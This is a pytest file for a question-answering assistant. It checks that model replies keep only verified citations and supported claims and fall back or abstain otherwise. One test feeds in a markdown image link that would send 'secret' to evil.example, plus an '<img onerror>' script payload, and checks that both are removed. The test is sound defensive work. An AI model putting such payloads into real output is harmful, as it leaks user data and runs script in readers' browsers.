"""The LLM answerer against a scripted OpenAI-compatible server: what the model says is checked."""

import pytest
from openai_standin import ChatStandIn, sentence_number

from qa.assistant import Assistant
from qa.settings import Settings


@pytest.fixture
def llm(sample_index):
    standins = []

    def make(reply):
        standin = ChatStandIn(reply)
        standins.append(standin)
        settings = Settings(index_dir=sample_index, answerer="openai", llm_base_url=standin.url, llm_model="stand-in")
        return Assistant(settings), standin

    yield make
    for standin in standins:
        standin.close()


def test_a_supported_answer_keeps_its_verified_citations(llm):
    assistant, standin = llm(
        lambda p: f"The US ruled out deploying ground troops [S{sentence_number(p, 'ruled out deploying ground troops')}]."
    )
    answer = assistant.ask("What did the US rule out?")
    assert answer.answerer == "openai" and not answer.abstained
    assert answer.answer == "The US ruled out deploying ground troops [1]."
    assert answer.citations[0].text == "However, the United States has ruled out deploying ground troops."
    assert answer.prompt == standin.prompts[-1] and "[S1]" in answer.prompt


def test_invented_ids_and_unsupported_claims_are_dropped(llm):
    def reply(prompt):
        troops = sentence_number(prompt, "ruled out deploying ground troops")
        return (f"The US ruled out deploying ground troops [S{troops}][S99]. "
                f"Paris is the capital of France [S{troops}]. The moon is made of cheese.")

    assistant, _ = llm(reply)
    answer = assistant.ask("What did the US rule out?")
    assert answer.answer == "The US ruled out deploying ground troops [1]."
    assert len(answer.citations) == 1
    notes = " ".join(answer.notes)
    assert "[99]" in notes and "Paris" in notes and "cheese" in notes


def test_each_claim_carries_the_checks_verdict_and_a_swapped_fact_is_removed(llm):
    claims = ("The United States has ruled out deploying ground troops [S{0}]. "
              "The United States has ruled out deploying fighter jets [S{0}].")
    assistant, _ = llm(lambda p: claims.format(sentence_number(p, "ruled out deploying ground troops")))
    answer = assistant.ask("What did the US rule out?")
    assert answer.answer == "The United States has ruled out deploying ground troops [1]."
    kept, swapped = answer.claims
    assert kept.supported and kept.cites == (answer.citations[0].id,) and 0.5 < kept.score <= 1
    assert not swapped.supported and swapped.score < kept.score and "fighter jets" in swapped.text
    record = answer.to_json()
    assert [c["supported"] for c in record["claims"]] == [True, False]
    assert record["claims"][1]["cites"] == [answer.citations[0].id]


def test_active_content_in_model_output_is_removed(llm):
    def reply(prompt):
        troops = sentence_number(prompt, "ruled out deploying ground troops")
        return (f"The US ruled out deploying ground troops ![x](https://evil.example/?q=secret) "
                f"<img src=x onerror=alert(1)> [S{troops}].")

    answer = llm(reply)[0].ask("What did the US rule out?")
    assert "evil.example" not in answer.answer and "<img" not in answer.answer
    assert "ground troops" in answer.answer and answer.citations


def test_nothing_supported_falls_back_to_the_extractive_answer(llm):
    answer = llm(lambda p: "Paris [S1].")[0].ask("What did the US rule out?")
    assert "ground troops" in answer.answer and answer.citations
    assert any("extractive answer shown" in n for n in answer.notes)


def test_unanswerable_questions_never_reach_the_model(llm):
    assistant, standin = llm(lambda p: "Lima [S1].")
    answer = assistant.ask("What is the capital of Peru?")
    assert answer.abstained and standin.prompts == []


def test_missing_endpoint_configuration_is_a_clear_error(sample_index):
    from qa.errors import UserError

    assistant = Assistant(Settings(index_dir=sample_index, answerer="openai"))
    with pytest.raises(UserError, match="QA_LLM_BASE_URL"):
        assistant.ask("What did the US rule out?")


def test_local_smollm2_answers_with_verified_citations_or_falls_back(sample_index):
    """A real (tiny) local LLM: whatever it writes, only supported, cited claims reach the user."""
    pytest.importorskip("xllamacpp")
    settings = Settings(index_dir=sample_index, answerer="gguf", gguf_path="smollm2", llm_max_tokens=96)
    assistant = Assistant(settings)
    answer = assistant.ask("What did the US rule out?")
    assert answer.answerer == "gguf" and answer.prompt and "[S1]" in answer.prompt
    assert not answer.abstained and answer.citations
    assert "ground troops" in answer.answer or any("ground troops" in c.text for c in answer.citations)
    index = assistant.index
    for c in answer.citations:
        assert index.documents[c.doc_id].document.text[c.start : c.end] == c.text
    assert assistant.ask("What is the capital of Peru?").abstained
